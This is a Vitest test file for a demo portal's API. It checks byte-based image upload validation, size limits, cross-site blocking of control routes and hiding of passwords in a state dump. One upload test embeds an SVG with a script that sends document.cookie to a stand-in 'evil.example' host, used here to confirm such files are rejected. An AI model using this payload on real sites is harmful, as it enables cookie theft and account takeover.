import { describe, expect, it } from 'vitest';
import { createFakePortal } from './index';
import { sniffImage } from './routes/media';
import { client } from './test-client';

// Issue 17 (part): uploads checked by their bytes, body limits, control routes closed to other sites, random tokens.
describe('a portal that is not an open door', () => {
  it('refuses an SVG (or any non-raster file) whatever type the client claims; serves uploads with nosniff', async () => {
    const portal = createFakePortal();
    const token = await client(portal).login('baru@kado.test');
    const upload = (file: File) => {
      const form = new FormData();
      form.append('image', file);
      return portal.fetch(new Request('http://kado.test/api/v1/upload/image', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form }));
    };
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example?"+document.cookie)</script></svg>';
    for (const file of [new File([svg], 'x.svg', { type: 'image/svg+xml' }), new File([svg], 'x.png', { type: 'image/png' }), new File(['<html><script>1</script>'], 'x.jpg', { type: 'image/jpeg' })]) {
      const res = await upload(file);
      expect(res.status).toBe(422);
      expect(JSON.stringify(await res.json())).toContain('Format gambar harus PNG, JPEG atau WebP');
    }
    const png = await upload(new File([new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 0, 0])], 'x.gif', { type: 'image/gif' }));
    expect(png.status).toBe(201);
    const url = ((await png.json()) as { data: { image_url: string } }).data.image_url;
    const served = await portal.fetch(new Request(`http://kado.test${url}`));
    expect(served.headers.get('content-type')).toBe('image/png'); // from the bytes, not the claim
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('sniffImage knows PNG, JPEG and WebP only', () => {
    expect(sniffImage(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]))).toBe('image/jpeg');
    expect(sniffImage(new TextEncoder().encode('RIFF0000WEBPVP8 '))).toBe('image/webp');
    expect(sniffImage(new TextEncoder().encode('<svg/>'))).toBeNull();
    expect(sniffImage(new Uint8Array([]))).toBeNull();
  });

  it('answers 413 with a clear message to a JSON body above 64 kB', async () => {
    const portal = createFakePortal();
    const api = client(portal);
    const big = await api.call('POST', '/v1/login', { body: { email: 'a@b.c', password: 'x'.repeat(70 * 1024) } });
    expect(big.status).toBe(413);
    expect((big.body as { message: string }).message).toBe('Data yang dikirim terlalu besar');
    expect((await api.call('POST', '/v1/login', { body: { email: 'ibu.demo@kado.test', password: 'Rahasia123!' } })).status).toBe(200);
  });

  it('answers 413 with a clear message to an image above 5 MB, and stores nothing', async () => {
    const portal = createFakePortal();
    const token = await client(portal).login('baru@kado.test');
    const bytes = new Uint8Array(5 * 1024 * 1024 + 1);
    bytes.set([137, 80, 78, 71, 13, 10, 26, 10]);
    const form = new FormData();
    form.append('image', new File([bytes], 'besar.png', { type: 'image/png' }));
    const res = await portal.fetch(new Request('http://kado.test/api/v1/upload/image', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form }));
    expect(res.status).toBe(413);
    expect(((await res.json()) as { message: string }).message).toBe('Ukuran gambar maksimal 5 MB');
    expect(portal.state.uploads).toHaveLength(0);
  });

  it('the control routes refuse a request from another site', async () => {
    const portal = createFakePortal({ controlRoutes: true });
    const reset = (headers: Record<string, string>) => portal.fetch(new Request('http://kado.test/api/__control/reset', { method: 'POST', headers }));
    expect((await reset({ 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    expect((await reset({ origin: 'https://evil.example', host: 'kado.test' })).status).toBe(403);
    expect((await reset({ 'sec-fetch-site': 'same-origin' })).status).toBe(200);
    expect((await reset({})).status).toBe(200);
  });
});

describe('the courier control routes refuse other sites too', () => {
  it('answers 403 to a cross-site advance', async () => {
    const portal = createFakePortal({ controlRoutes: true });
    const res = await portal.fetch(new Request('http://kado.test/api/__control/orders/1/advance', { method: 'POST', headers: { 'content-type': 'application/json', 'sec-fetch-site': 'cross-site' }, body: '{}' }));
    expect(res.status).toBe(403);
  });
});

describe('the state read of the control routes', () => {
  it('answers the named tables without passwords, tokens as a count; an unknown table is a 422', async () => {
    const portal = createFakePortal({ controlRoutes: true });
    const api = client(portal);
    await api.login('ibu.demo@kado.test');
    const read = await api.call<{ data: { users: Record<string, unknown>[]; tokens: number; children: unknown[] } }>('GET', '/__control/state?tables=users,tokens,children');
    expect(read.status).toBe(200);
    expect(read.body.data.users.length).toBe(portal.state.users.length);
    expect(read.body.data.users.every((u) => !('password' in u))).toBe(true);
    expect(JSON.stringify(read.body)).not.toContain('Rahasia123!');
    expect(read.body.data.tokens).toBe(2);
    expect(read.body.data.children).toEqual(JSON.parse(JSON.stringify(portal.state.children)));
    expect((await api.call('GET', '/__control/state?tables=rahasia')).status).toBe(422);
    const cross = await portal.fetch(new Request('http://kado.test/api/__control/state?tables=users', { headers: { 'sec-fetch-site': 'cross-site' } }));
    expect(cross.status).toBe(403);
  });
});
